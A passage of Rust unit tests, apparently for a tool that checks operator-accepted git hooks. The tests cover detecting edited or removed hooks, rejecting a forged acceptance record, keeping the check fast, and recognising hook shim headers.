        accept::accept(&plane, &accept_name(&b), Some(b"two")).expect("accept");
        assert!(integrity_warnings(&ws, &plane).is_empty(), "both intact");

        std::fs::write(&a, "edited").expect("write");
        std::fs::remove_file(&b).expect("remove");
        let w = integrity_warnings(&ws, &plane);
        assert_eq!(w.len(), 2, "{w:?}");
        assert!(w[0].contains("hooks/pre-commit changed since the operator accepted it"), "{w:?}");
        assert!(w[1].contains("hooks/pre-push") && w[1].contains("gone"), "{w:?}");
        assert!(w.iter().all(|l| l.contains(REACCEPT)), "{w:?}");

        // A forged record is one warning, never trusted.
        let text = std::fs::read_to_string(plane.path(accept::FILE)).expect("read");
        std::fs::write(plane.path(accept::FILE), text.replace(&sha256_hex(b"one"), &sha256_hex(b"edited")))
            .expect("write");
        let w = integrity_warnings(&ws, &plane);
        assert_eq!(w.len(), 1, "{w:?}");
        assert!(w[0].contains("not signed"), "{w:?}");
    }

    #[test]
    fn integrity_warnings_are_cheap_without_hooks() {
        let tmp = tempfile::tempdir().expect("tempdir");
        let (plane, _) = Plane::init(tmp.path(), false).expect("init");
        accept::accept(&plane, ".tako/policy.toml", Some(b"x")).expect("accept");
        let start = std::time::Instant::now();
        for _ in 0..100 {
            assert!(integrity_warnings(tmp.path(), &plane).is_empty());
        }
        // A loose bound (debug build, shared machine): one read, no parse, no MAC.
        assert!(start.elapsed() < std::time::Duration::from_millis(200), "{:?}", start.elapsed());
    }

    #[test]
    fn shims_are_recognised_in_any_version() {
        assert!(is_shim(shim(HookName::PrePush, None).as_bytes()));
        assert!(is_shim(b"#!/bin/sh\n# tako-exec-hook-shim: 7\n"));
        assert!(!is_shim(b"#!/bin/sh\necho # tako-exec-hook-shim: 1\n"));
    }
}
